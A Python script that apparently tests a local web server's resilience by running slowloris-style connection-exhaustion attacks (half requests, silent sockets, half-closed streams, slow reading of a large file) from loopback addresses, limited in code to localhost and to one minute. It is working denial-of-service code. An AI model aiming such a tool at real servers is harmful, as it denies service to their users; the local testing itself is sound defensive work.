#!/usr/bin/env python3
"""Holds a server's places with sockets that never finish: slowloris.py HOST PORT [KIND] [SOCKETS]

Only against this machine: it comes from the loopback addresses 127.0.0.2, .3, ... and stops after
a minute. KIND is one of
    half    half a request, and then silence
    silent  nothing at all
    gone    half a request, and the end of the stream (a dead socket)
    deaf    asks for the page's largest file and does not read it
"""
import socket
import sys
import time

HALF = b"GET / HTTP/1.1\r\nHost: localhost\r\n"
SECONDS_MAX = 60
KINDS = ("half", "silent", "gone", "deaf")


class Slowloris:
    """Sockets from several loopback addresses; close() lets go of all."""

    def __init__(self, port, kind="half", addresses=3, each=216, file="/penultima.wasm"):
        if kind not in KINDS or addresses > 200 or addresses * each > 4000:
            raise ValueError("not such an attack")
        self.port, self.kind, self.file = port, kind, file
        self.sources = [f"127.0.0.{2 + i}" for i in range(addresses)]
        self.each = each
        self.sockets = []

    def connect(self, source):
        link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if self.kind == "deaf":
            link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        link.bind((source, 0))
        link.settimeout(5)
        link.connect(("127.0.0.1", self.port))
        if self.kind in ("half", "gone"):
            link.sendall(HALF)
        elif self.kind == "deaf":
            link.sendall(f"GET {self.file} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
        if self.kind == "gone":
            link.shutdown(socket.SHUT_WR)
        return link

    def hold(self):
        """Opens all of them; how many could be connected."""
        for _ in range(self.each):
            for source in self.sources:
                try:
                    self.sockets.append(self.connect(source))
                except OSError:
                    pass
        return len(self.sockets)

    def close(self):
        for link in self.sockets:
            link.close()
        self.sockets = []


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    kind = sys.argv[3] if len(sys.argv) > 3 else "half"
    each = int(sys.argv[4]) if len(sys.argv) > 4 else 216
    if host not in ("127.0.0.1", "localhost"):
        sys.exit("slowloris.py: only against this machine")
    attack = Slowloris(port, kind, each=each)
    until = time.monotonic() + SECONDS_MAX
    print(attack.hold(), "sockets")
    while time.monotonic() < until:
        time.sleep(1)
    attack.close()


if __name__ == "__main__":
    main()
